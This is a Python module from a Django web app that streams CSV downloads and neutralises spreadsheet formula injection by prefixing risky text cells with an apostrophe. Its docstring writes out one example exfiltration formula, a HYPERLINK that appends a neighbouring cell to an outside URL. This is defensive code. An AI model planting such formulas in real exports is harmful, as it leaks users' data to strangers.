"""CSV files that people open in a spreadsheet: every such download is written here.

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (and, in some
programs, a tab, a carriage return or a null) as a formula, so a first name like
`=HYPERLINK("http://...?"&B2,"Open")` would send the row next to it to a stranger
when the file is opened. Text that begins so is written with an apostrophe in
front, which spreadsheets take as "this is text" (OWASP, CSV injection). Only
text is changed: numbers Stride writes as numbers (-12.5) stay numbers.

The HSDS data package (`resources/hsds/`) is not written here on purpose: it
is a file for other directory systems, read by programs, and importing it must
give back exactly the text that was exported.
"""

import csv
from collections.abc import Iterable, Iterator
from datetime import date
from decimal import Decimal

from django.http import StreamingHttpResponse

# The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def cell(value: object) -> object:
    """`value` as it may go into a spreadsheet: text that could run is kept as text.

    Numbers, dates and empty cells go as they are; anything else (a lazily
    translated label, say) is text.
    """
    if value is None or isinstance(value, int | float | Decimal | date):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Line:
    def write(self, line: str) -> str:
        return line


def lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Each row as one line of CSV text, neutralised."""
    writer = csv.writer(_Line())
    for values in rows:
        yield writer.writerow([cell(value) for value in values])


class SpreadsheetResponse(StreamingHttpResponse):
    """A CSV download, streamed row by row; the URL walk checks every CSV is one of these."""


def download(rows: Iterable[Iterable[object]], filename: str) -> SpreadsheetResponse:
    response = SpreadsheetResponse(lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
